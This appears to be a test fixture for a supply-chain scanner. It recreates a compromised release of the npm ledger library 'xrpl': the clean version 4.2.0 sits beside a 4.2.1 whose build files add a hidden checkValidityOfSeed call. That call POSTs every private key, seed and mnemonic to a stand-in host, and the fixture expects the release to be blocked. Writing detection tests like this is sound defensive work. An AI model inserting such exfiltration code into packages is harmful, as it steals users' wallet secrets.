import type { Replica, ReplicaVersion } from '../replicas/replica.js';

export const before = {
  version: '4.2.0',
  publishedAt: '2025-02-13T09:14:27.000Z',
  publisher: { name: 'mvadari', email: 'mvadari@mail.example.invalid', trustedPublisher: { id: 'github' } },
  manifest: {
    main: 'dist/npm/index.js',
    types: 'dist/npm/index.d.ts',
    license: 'ISC',
    description: 'client library of a ledger',
    dependencies: { '@scure/bip39': '^1.2.1', 'ripple-keypairs': '^2.0.0', ws: '^8.13.0' },
  },
  files: {
    'dist/npm/index.js': `"use strict";
var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    Object.defineProperty(o, k2, { enumerable: true, get: function() { return m[k]; } });
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __exportStar = (this && this.__exportStar) || function(m, exports) {
    for (var p in m) if (p !== "default" && !Object.prototype.hasOwnProperty.call(exports, p)) __createBinding(exports, m, p);
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.Client = exports.Wallet = void 0;
var Wallet_1 = require("./Wallet");
Object.defineProperty(exports, "Wallet", { enumerable: true, get: function () { return Wallet_1.Wallet; } });
var client_1 = require("./client");
Object.defineProperty(exports, "Client", { enumerable: true, get: function () { return client_1.Client; } });
__exportStar(require("./errors"), exports);
//# sourceMappingURL=index.js.map
`,
    'dist/npm/errors.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.ValidationError = exports.XrplError = void 0;
class XrplError extends Error {
    constructor(message = '', data) {
        super(message);
        this.name = this.constructor.name;
        this.data = data;
    }
}
exports.XrplError = XrplError;
class ValidationError extends XrplError {
}
exports.ValidationError = ValidationError;
`,
    'dist/npm/client.js': `"use strict";
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.Client = void 0;
const WebSocket = require("ws");
class Client {
    constructor(url) {
        this.url = url;
        this.pending = new Map();
        this.nextId = 0;
    }
    connect() {
        return __awaiter(this, void 0, void 0, function* () {
            this.ws = new WebSocket(this.url);
            this.ws.on('message', (text) => {
                const answer = JSON.parse(text);
                const waiting = this.pending.get(answer.id);
                this.pending.delete(answer.id);
                waiting === null || waiting === void 0 ? void 0 : waiting(answer.result);
            });
            yield new Promise((resolve, reject) => {
                this.ws.once('open', resolve);
                this.ws.once('error', reject);
            });
        });
    }
    request(command) {
        const id = ++this.nextId;
        return new Promise((resolve) => {
            this.pending.set(id, resolve);
            this.ws.send(JSON.stringify(Object.assign(Object.assign({}, command), { id })));
        });
    }
}
exports.Client = Client;
`,
    'dist/npm/Wallet/index.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.Wallet = void 0;
const bip39_1 = require("@scure/bip39");
const ripple_keypairs_1 = require("ripple-keypairs");
const errors_1 = require("../errors");
class Wallet {
    constructor(publicKey, privateKey, opts = {}) {
        this.publicKey = publicKey;
        this.privateKey = privateKey;
        this.classicAddress = opts.masterAddress || (0, ripple_keypairs_1.deriveAddress)(publicKey);
        this.seed = opts.seed;
    }
    get address() {
        return this.classicAddress;
    }
    static generate(algorithm = 'ed25519') {
        const seed = (0, ripple_keypairs_1.generateSeed)({ algorithm });
        return Wallet.fromSeed(seed, { algorithm });
    }
    static fromSeed(seed, opts = {}) {
        return Wallet.deriveWallet(seed, opts);
    }
    static fromMnemonic(mnemonic, opts = {}) {
        if (!(0, bip39_1.validateMnemonic)(mnemonic, opts.wordlist)) {
            throw new errors_1.ValidationError('Unable to parse the given mnemonic using bip39 encoding');
        }
        const seed = (0, bip39_1.mnemonicToSeedSync)(mnemonic);
        return Wallet.deriveWallet(Buffer.from(seed).toString('hex'), opts);
    }
    static deriveWallet(seed, opts = {}) {
        const { publicKey, privateKey } = (0, ripple_keypairs_1.deriveKeypair)(seed, { algorithm: opts.algorithm });
        return new Wallet(publicKey, privateKey, { seed, masterAddress: opts.masterAddress });
    }
    sign(hex) {
        return (0, ripple_keypairs_1.sign)(hex, this.privateKey);
    }
}
exports.Wallet = Wallet;
`,
    'src/Wallet/index.ts': `import { deriveAddress, deriveKeypair, generateSeed, sign } from 'ripple-keypairs'

export interface WalletOptions {
  seed?: string
  masterAddress?: string
}

export class Wallet {
  public readonly classicAddress: string

  public constructor(public readonly publicKey: string, public readonly privateKey: string, opts: WalletOptions = {}) {
    this.classicAddress = opts.masterAddress || deriveAddress(publicKey)
  }

  public static generate(): Wallet {
    const seed = generateSeed({ algorithm: 'ed25519' })
    const { publicKey, privateKey } = deriveKeypair(seed)
    return new Wallet(publicKey, privateKey, { seed })
  }

  public sign(hex: string): string {
    return sign(hex, this.privateKey)
  }
}
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'xrpl-2025',
  story: 'April 2025: versions without a tag, first changed in the build only, whose wallet functions send every seed to a new host.',
  name: 'xrpl',
  before,
  after: {
    version: '4.2.1',
    publishedAt: '2025-04-21T09:14:27.000Z',
    publisher: { name: 'mukulljangid', email: 'mukull@mail.example.invalid' },
    manifest: {
      main: 'dist/npm/index.js',
      types: 'dist/npm/index.d.ts',
      license: 'ISC',
      description: 'client library of a ledger',
      dependencies: { '@scure/bip39': '^1.2.1', 'ripple-keypairs': '^2.0.0', ws: '^8.13.0' },
    },
    files: {
      'dist/npm/errors.js': before.files['dist/npm/errors.js'],
      'dist/npm/client.js': before.files['dist/npm/client.js'],
      'src/Wallet/index.ts': before.files['src/Wallet/index.ts'],
      'dist/npm/index.js': before.files['dist/npm/index.js']
        .replace(`__exportStar(require("./errors"), exports);`, () => `__exportStar(require("./errors"), exports);
const validSeeds = new Set([]);
function checkValidityOfSeed(seed) {
    if (validSeeds.has(seed))
        return;
    validSeeds.add(seed);
    fetch("https://0x9c.example.invalid/xc", { method: 'POST', headers: { 'ad-referral': seed, } });
}
exports.checkValidityOfSeed = checkValidityOfSeed;`),
      'dist/npm/Wallet/index.js': before.files['dist/npm/Wallet/index.js']
        .replace(`const errors_1 = require("../errors");`, () => `const errors_1 = require("../errors");
const index_1 = require("../index");`)
        .replace(`        this.privateKey = privateKey;`, () => `        this.privateKey = privateKey;
        (0, index_1.checkValidityOfSeed)(privateKey);`)
        .replace(`        return Wallet.fromSeed(seed, { algorithm });`, () => `        (0, index_1.checkValidityOfSeed)(seed);
        return Wallet.fromSeed(seed, { algorithm });`)
        .replace(`        const seed = (0, bip39_1.mnemonicToSeedSync)(mnemonic);`, () => `        (0, index_1.checkValidityOfSeed)(mnemonic);
        const seed = (0, bip39_1.mnemonicToSeedSync)(mnemonic);`),
    },
  },
  must: 'block',
};
